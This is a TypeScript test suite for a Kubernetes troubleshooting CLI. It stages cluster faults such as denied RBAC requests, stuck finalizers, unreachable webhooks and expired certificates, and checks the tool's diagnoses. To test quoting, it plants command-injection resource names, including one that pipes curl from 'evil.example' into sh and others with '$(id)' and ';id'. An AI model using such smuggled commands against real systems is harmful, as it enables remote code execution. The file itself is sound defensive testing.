/** Ten faults of clusters, staged on a server: one command of the program names the cause of each, and what can be done. */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { once } from "node:events";
import https from "node:https";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { writeFileSync } from "node:fs";
import { after, before, describe, test } from "node:test";
import { fakeAuthority } from "#authn/fake-authority.ts";
import { type OpenCluster, withCluster } from "#commands/open-cluster.ts";
import { eventually, temporaryFolder } from "../harness.ts";
import { type Ended, runProgram, type Serving, serveProgram } from "./program.ts";

const day = 86_400_000;
/** An address at which nobody listens. */
const nowhere = "https://127.0.0.1:1/";
/** The name of a role that a shell would take for commands. */
const hostile = "x'; curl evil.example|sh #";
const lastApplied = "kubectl.kubernetes.io/last-applied-configuration";

void describe("staged faults", () => {
  let folder: string;
  let serving: Serving;
  let expired: https.Server;
  let doctor: Promise<Ended> | undefined;

  before(async () => {
    folder = temporaryFolder();
    serving = await serveProgram(folder, "--data-dir=data", "--api-domain=k8s.io", "--history=1h");
    const authority = await fakeAuthority();
    const issued = await authority.issue({
      usage: "server",
      notBefore: new Date(Date.now() - 2 * day),
      notAfter: new Date(Date.now() - day),
    });
    expired = https.createServer({ cert: issued.certificate, key: issued.key }, (_, response) => response.end("{}"));
    expired.listen(0, "127.0.0.1");
    await once(expired, "listening");
    const { port } = expired.address() as AddressInfo; // it listens on a port
    await as(undefined, (cluster) => stage(cluster, authority.certificate, `https://127.0.0.1:${port}/`));
  });
  after(async () => {
    serving.child.kill();
    expired.close();
    await serving.ended;
  });

  /** Does work as a user, or as the administrator. */
  const as = <T>(user: string | undefined, work: (cluster: OpenCluster) => Promise<T>): Promise<T> =>
    withCluster(
      { kubeconfig: join(folder, "data", "admin.kubeconfig"), ...(user === undefined ? {} : { as: user }) },
      work,
    );

  const post = (cluster: OpenCluster, path: string, body: object): Promise<unknown> =>
    cluster.call({ method: "POST", path, body });

  async function stage(cluster: OpenCluster, authority: string, expiredUrl: string): Promise<void> {
    for (const name of ["shop", "stuck", "small"]) {
      await post(cluster, "/api/v1/namespaces", { apiVersion: "v1", kind: "Namespace", metadata: { name } });
    }
    const rbac = "/apis/rbac.authorization.k8s.io/v1/namespaces/shop";
    await post(cluster, `${rbac}/roles`, {
      metadata: { name: "reader" },
      rules: [{ apiGroups: [""], resources: ["secrets"], verbs: ["get", "list"] }],
    });
    const group = "rbac.authorization.k8s.io";
    const bind = (name: string, kind: string, role: string, user: string): Promise<unknown> =>
      post(cluster, `${rbac}/rolebindings`, {
        metadata: { name },
        roleRef: { apiGroup: group, kind, name: role },
        subjects: [{ apiGroup: group, kind: "User", name: user }],
      });
    await bind("readers", "Role", "reader", "alice");
    await bind("editors", "ClusterRole", "edit", "bob");
    for (const name of [hostile, "--all"]) {
      const finalizers = ["evil.example/x", "kubernetes.io/pvc-protection"];
      await post(cluster, `${rbac}/roles`, { metadata: { name, finalizers } });
      await cluster.call({ method: "DELETE", path: `${rbac}/roles/${encodeURIComponent(name)}` });
    }
    await post(cluster, `${rbac}/roles`, { metadata: { name: "$(id)" } });
    await cluster.call({ method: "DELETE", path: `${rbac}/roles/${encodeURIComponent("$(id)")}` });
    for (const [user, namespace] of [
      ["system:serviceaccount:shop:scanner", "%24(id%3Ecurl)"],
      ["system:serviceaccount:shop:a;id", "shop"],
    ] as const) {
      await as(user, async (stranger) => {
        for (let time = 0; time < 4; time++) {
          const path = `/api/v1/namespaces/${namespace}/pods`;
          await assert.rejects(stranger.call({ method: "GET", path }), /forbidden/);
        }
      });
    }
    await stageObjects(cluster);
    await stageConversion(cluster);
    await as("system:serviceaccount:shop:robot", async (robot) => {
      for (let time = 0; time < 4; time++) {
        await assert.rejects(robot.call({ method: "GET", path: "/api/v1/namespaces/shop/endpoints" }), /forbidden/);
      }
    });
    await stageWebhooks(cluster, authority, expiredUrl);
  }

  async function stageObjects(cluster: OpenCluster): Promise<void> {
    const core = (namespace: string): string => `/api/v1/namespaces/${namespace}`;
    const kept = { metadata: { name: "kept", finalizers: ["example.com/cleanup"] } };
    await post(cluster, `${core("stuck")}/configmaps?fieldManager=operator`, kept);
    await cluster.call({ method: "DELETE", path: core("stuck") });
    const web = "/apis/apps/v1/namespaces/shop/deployments";
    await post(cluster, `${web}?fieldManager=pipeline`, {
      metadata: { name: "web" },
      spec: {
        replicas: 2,
        selector: { matchLabels: { app: "web" } },
        template: { metadata: { labels: { app: "web" } }, spec: { containers: [{ name: "app", image: "nginx:1" }] } },
      },
    });
    for (const [manager, replicas] of [
      ["scaler", 5],
      ["pipeline", 2],
      ["scaler", 6],
      ["pipeline", 2],
    ] as const) {
      const path = `${web}/web?fieldManager=${manager}`;
      const contentType = "application/merge-patch+json";
      await cluster.call({ method: "PATCH", path, body: { spec: { replicas } }, contentType });
    }
    await post(cluster, `${core("shop")}/secrets?fieldManager=a`, {
      metadata: { name: "password", annotations: { [lastApplied]: "hunter2" } },
      stringData: { "it-s": "hunter2-0" },
    });
    for (const time of [1, 2, 3, 4]) {
      await cluster.call({
        method: "PATCH",
        path: `${core("shop")}/secrets/password?fieldManager=${time % 2 === 0 ? "a" : "b"}`,
        body: {
          metadata: { annotations: { [lastApplied]: `hunter2-${time}` } },
          stringData: { "it-s": `hunter2-${time}` },
        },
        contentType: "application/merge-patch+json",
      });
    }
    const condition = {
      type: "ReplicaFailure",
      status: "True",
      reason: "FailedCreate",
      message: "exceeded quota: few",
    };
    await cluster.call({
      method: "PATCH",
      path: `${web}/web/status?fieldManager=controller`,
      body: { status: { observedGeneration: 1, conditions: [condition] } },
      contentType: "application/merge-patch+json",
    });
    await post(cluster, `${core("shop")}/configmaps`, { metadata: { name: "settings" }, data: { mode: "fast" } });
    await as("bob", (bob) => bob.call({ method: "DELETE", path: `${core("shop")}/configmaps/settings` }));
    await post(cluster, `${core("small")}/resourcequotas`, {
      metadata: { name: "limit" },
      spec: { hard: { secrets: "0", configmaps: "1" } },
    });
    await post(cluster, `${core("shop")}/persistentvolumeclaims`, {
      metadata: { name: "data" },
      spec: { accessModes: ["ReadWriteOnce"], resources: { requests: { storage: "1Gi" } } },
    });
    await eventually(async () => {
      const quota = await cluster.call<{ readonly status?: { readonly used?: object } }>({
        method: "GET",
        path: `${core("small")}/resourcequotas/limit`,
      });
      assert.deepStrictEqual(quota.status?.used, { configmaps: "1", secrets: "0" }); // that of the root certificate
    });
  }

  async function stageConversion(cluster: OpenCluster): Promise<void> {
    const schema = { openAPIV3Schema: { type: "object" } };
    await post(cluster, "/apis/apiextensions.k8s.io/v1/customresourcedefinitions", {
      metadata: { name: "widgets.example.com" },
      spec: {
        group: "example.com",
        scope: "Namespaced",
        names: { plural: "widgets", singular: "widget", kind: "Widget" },
        conversion: {
          strategy: "Webhook",
          webhook: { conversionReviewVersions: ["v1"], clientConfig: { url: `${nowhere}convert` } },
        },
        versions: [
          { name: "v1", served: true, storage: true, schema },
          { name: "v2", served: true, storage: false, schema },
        ],
      },
    });
    await eventually(() =>
      post(cluster, "/apis/example.com/v1/namespaces/shop/widgets", {
        apiVersion: "example.com/v1",
        kind: "Widget",
        metadata: { name: "w" },
      }),
    );
  }

  async function stageWebhooks(cluster: OpenCluster, authority: string, expiredUrl: string): Promise<void> {
    const path = "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations";
    const caBundle = Buffer.from(authority).toString("base64");
    const webhook = (name: string, url: string, resource: string): object => ({
      metadata: { name },
      webhooks: [
        {
          name: `${name}.example.com`,
          admissionReviewVersions: ["v1"],
          sideEffects: "None",
          clientConfig: { url, caBundle },
          rules: [{ apiGroups: [""], apiVersions: ["v1"], operations: ["CREATE"], resources: [resource] }],
        },
      ],
    });
    await post(cluster, path, webhook("gone", nowhere, "secrets"));
    await post(cluster, path, webhook("old", expiredUrl, "services"));
    const shop = "/api/v1/namespaces/shop";
    await eventually(() =>
      assert.rejects(post(cluster, `${shop}/secrets`, { metadata: { generateName: "s" } }), /webhook/),
    );
    const spec = { ports: [{ port: 80 }] };
    await eventually(() =>
      assert.rejects(post(cluster, `${shop}/services`, { metadata: { generateName: "s" }, spec }), /webhook/),
    );
  }

  const run = (...args: readonly string[]): Promise<Ended> => runProgram([...args, "--data-dir=data"], folder);

  async function out(line: string, expected = 0): Promise<string> {
    const { code, stdout, stderr } = await run(...line.split(" "));
    assert.equal(code, expected, `${line}: ${stderr}`);
    return stdout;
  }

  /** Returns what the doctor says about something: its three lines. */
  async function diagnosis(about: string): Promise<string> {
    doctor ??= run("doctor");
    const { code, stdout, stderr } = await doctor;
    assert.equal(code, 1, stderr);
    const found = stdout.split("\n\n").find((text) => text.split("\n")[0]?.endsWith(`  ${about}`));
    assert.ok(found, `${about} in:\n${stdout}`);
    return found;
  }

  /** Returns the words that a shell makes of a command. */
  const shellWords = (command: string): readonly string[] =>
    execFileSync("sh", ["-c", `printf '%s\\0' ${command}`], { encoding: "utf8" })
      .split("\0")
      .slice(0, -1);

  void test("a denied request: why names the rule that comes nearest, what it lacks and what would allow it", async () => {
    const text = await out("why delete secrets/token -n shop --as=alice", 1);
    assert.match(text, /RoleBinding shop\/readers gives Role shop\/reader: get, list on secrets/);
    assert.match(text, /It lacks the verb "delete"\./);
    assert.match(text, /^kind: RoleBinding$/m);
  });

  void test("a stuck namespace: tree names the object, its finalizer, who set it and how to remove it", async () => {
    const text = await eventually(async () => {
      const shown = await out("tree ns stuck");
      assert.match(shown, /^└─ configmap\/kept .* is being deleted/m);
      return shown;
    });
    assert.match(text, /waits for whoever removes the finalizer example\.com\/cleanup \(set by operator\)/);
    const patch = `[{"op":"test","path":"/metadata/finalizers/0","value":"example.com/cleanup"},{"op":"remove","path":"/metadata/finalizers/0"}]`;
    const command = `kubectl patch configmaps kept -n stuck --type=json -p '${patch}'`;
    assert.ok(text.includes(`\n  ${command}\n`), text);
    const { next } = JSON.parse(await out("tree ns stuck -o json")) as { readonly next: readonly string[] };
    assert.deepStrictEqual(next, [command]);
  });

  void test("a field fought over: blame names the field, both managers and how one gives it up", async () => {
    const text = await out("blame deploy web -n shop");
    assert.match(
      text,
      /^FOUGHT OVER {2}spec\.replicas: pipeline and scaler changed it in turn, 4 times.*\(values: 2, 6, 5\)\.$/m,
    );
    assert.match(text, /binnacle blame deployments web -n shop --give-up=spec\.replicas --manager=NAME/);
    const { fights } = JSON.parse(await out("blame deploy web -n shop -o json")) as {
      readonly fights: readonly { readonly path: string; readonly managers: readonly string[] }[];
    };
    assert.deepStrictEqual(
      fights.map(({ path, managers }) => [path, managers]),
      [["spec.replicas", ["pipeline", "scaler"]]],
    );
  });

  void test("a Secret fought over: blame names the field, and shows values only where it is told to", async () => {
    const hidden = /hunter2|aHVudGVyMi/;
    const text = await out("blame secret password -n shop");
    assert.match(text, /^FOUGHT OVER {2}data\.it-s: .*\(values: "\*\*\*", "\*\*\*", "\*\*\*"\)\.$/m);
    assert.match(text, /^FOUGHT OVER {2}metadata\.annotations\["kubectl/m);
    assert.match(text, / '--give-up=metadata\.annotations\["kubectl[^ ]*"\]' --manager=NAME$/m);
    assert.doesNotMatch(text, hidden);
    const data = await out("blame secret password -n shop -o json");
    const { fights } = JSON.parse(data) as { readonly fights: readonly { readonly values: readonly unknown[] }[] };
    assert.deepStrictEqual(fights[0]?.values, ["***", "***", "***"]);
    assert.doesNotMatch(data, hidden);
    const field = "data.it-s";
    const given = await out(`blame secret password -n shop --give-up=${field} --manager=a --dry-run -o json`);
    assert.match(given, /"it-s": ?"\*\*\*"/);
    assert.doesNotMatch(given, hidden);
    const shown = await out("blame secret password -n shop --show-secrets");
    const value = Buffer.from("hunter2-3").toString("base64");
    assert.match(shown, new RegExp(`^FOUGHT OVER.*${value}`, "m"));
    assert.ok((await out("blame secret password -n shop --show-secrets -o json")).includes(value));
  });

  void test("a role with a hostile name: printed commands are about it, and remove the finalizer of nobody else", async () => {
    const { code, stdout, stderr } = await run("tree", "role", hostile, "-n", "shop");
    assert.equal(code, 0, stderr);
    const [, command = ""] = /^ {2}kubectl (.*)$/m.exec(stdout) ?? [];
    const words = shellWords(command);
    assert.deepStrictEqual(words.slice(0, 3), ["patch", "roles.rbac.authorization.k8s.io", hostile]);
    assert.deepStrictEqual(JSON.parse(words.at(-1)!), [
      { op: "test", path: "/metadata/finalizers/0", value: "evil.example/x" },
      { op: "remove", path: "/metadata/finalizers/0" },
    ]);
    const path = `/apis/rbac.authorization.k8s.io/v1/namespaces/shop/roles/${encodeURIComponent(hostile)}`;
    const { metadata } = await as(undefined, (cluster) =>
      cluster.call<{ readonly metadata: object }>({
        method: "PATCH",
        path,
        body: JSON.parse(words.at(-1)!) as object,
        contentType: "application/json-patch+json",
      }),
    );
    assert.deepStrictEqual((metadata as { readonly finalizers?: unknown }).finalizers, [
      "kubernetes.io/pvc-protection",
    ]);
    assert.match(
      await out("tree role/--all -n shop"),
      /^ {2}kubectl patch roles\.rbac\.authorization\.k8s\.io\/--all -n/m,
    );
    assert.match(await out("history role $(id) -n shop"), /: binnacle undelete roles '\$\(id\)' -n shop$/m);
  });

  void test("refused requests about names that are none: the doctor tells them and prints no command", async () => {
    const text = await diagnosis("serviceaccount/scanner in shop");
    assert.match(text, /list pods in namespace \$\(id>curl\) \(4 times\)/);
    assert.doesNotMatch(text, /binnacle why/);
    const quoted = await diagnosis("serviceaccount/a;id in shop");
    assert.match(quoted, /binnacle why list pods -n shop '--as=system:serviceaccount:shop:a;id'$/m);
  });

  void test("a deleted object: history and changes name who deleted it, and the command that brings it back", async () => {
    const text = await out("history cm settings -n shop");
    assert.match(
      text,
      /^It was deleted by bob with binnacle\. Bring it back: binnacle undelete configmaps settings -n shop$/m,
    );
    const { code, stdout, stderr } = await run("changes", "-n", "shop");
    assert.equal(code, 0, stderr);
    assert.match(stdout, /^configmap\/settings deleted by bob/m);
    assert.match(stderr, /binnacle undelete configmaps settings -n shop$/m);
    assert.match(stderr, /^not shown, since they cannot be read: widgets\.example\.com \(conversion webhook/m);
  });

  void test("a webhook that cannot be called: the doctor says why, what it stops, and how to go on", async () => {
    const text = await diagnosis("webhook gone.example.com of validatingwebhookconfiguration/gone");
    assert.match(text, /^PROBLEM/);
    assert.match(text, /Nothing accepts connections at its address\. It is asked about create of secrets\./);
    assert.match(text, /\d+ requests? (?:was|were) refused for that/);
    assert.match(text, /set its failurePolicy to Ignore, or: binnacle delete validatingwebhookconfiguration\/gone$/m);
  });

  void test("an expired certificate of a webhook: the doctor says so", async () => {
    const text = await diagnosis("webhook old.example.com of validatingwebhookconfiguration/old");
    assert.match(text, /Its certificate has expired, or is not valid yet\. It is asked about create of services\./);
    assert.match(text, /^ {2}Renew its certificate, and write the authority of it to caBundle\./m);
  });

  void test("a full quota: the doctor names it, the kind and what can be done", async () => {
    const text = await diagnosis("resourcequota/small/limit");
    assert.match(text, /It has used 1 of 1 for configmaps, so more is refused with 403\./);
    assert.match(text, /Raise the limit in spec\.hard/);
  });

  void test("a workload whose pods are refused: the doctor passes on the reason", async () => {
    assert.match(await diagnosis("deployment/shop/web"), /Its pods cannot be made: exceeded quota: few/);
  });

  void test("a claim without a class: the doctor says at once that it gets no volume", async () => {
    const text = await diagnosis("persistentvolumeclaim/shop/data");
    assert.match(text, /It names no storage class, and there was no default one/);
    assert.match(text, /The cluster has no storage class: create one, and name it in spec\.storageClassName\./);
  });

  void test("a conversion webhook that cannot be called: the doctor names the versions and the address", async () => {
    const text = await diagnosis("customresourcedefinition/widgets.example.com (conversion)");
    assert.match(text, /stored as v1 and cannot be read as v2, such as w in shop: .*connection refused/);
    assert.match(
      text,
      /its conversion webhook runs and can be reached by the server \(https:\/\/127\.0\.0\.1:1\/convert\)/,
    );
    assert.doesNotMatch((await doctor!).stdout, /Not looked at: widgets/);
  });

  void test("a right that a controller lacks: the doctor names the account, the action and the question to ask", async () => {
    const text = await diagnosis("serviceaccount/robot in shop");
    assert.match(text, /list endpoints in namespace shop \(4 times\)/);
    const [, question = ""] = /: binnacle (why .*)$/m.exec(text) ?? [];
    const answer = await out(question, 1);
    assert.match(answer, /^"system:serviceaccount:shop:robot" may not list endpoints in namespace shop\.$/m);
    assert.match(answer, /^- kind: ServiceAccount\n {2}name: robot\n {2}namespace: shop$/m);
  });

  void test("an expired client certificate: every command says so, and since when", async () => {
    const authority = await fakeAuthority();
    const notAfter = new Date("2026-01-01T00:00:00Z");
    const { certificate, key } = await authority.issue({ notBefore: new Date("2025-01-01T00:00:00Z"), notAfter });
    const data = (text: string): string => Buffer.from(text).toString("base64");
    const { url } = serving;
    writeFileSync(
      join(folder, "expired.json"),
      JSON.stringify({
        apiVersion: "v1",
        kind: "Config",
        "current-context": "x",
        contexts: [{ name: "x", context: { cluster: "c", user: "u" } }],
        clusters: [{ name: "c", cluster: { server: url, "certificate-authority": join(folder, "data/pki/ca.crt") } }],
        users: [{ name: "u", user: { "client-certificate-data": data(certificate), "client-key-data": data(key) } }],
      }),
    );
    for (const command of ["doctor", "health"]) {
      const { code, stdout, stderr } = await runProgram([command, "--kubeconfig=expired.json"], folder);
      assert.equal(code, 1);
      assert.match(
        stdout + stderr,
        /Unauthorized: your client certificate expired at 2026-01-01 00:00 UTC: ask for a new/,
      );
    }
  });
});
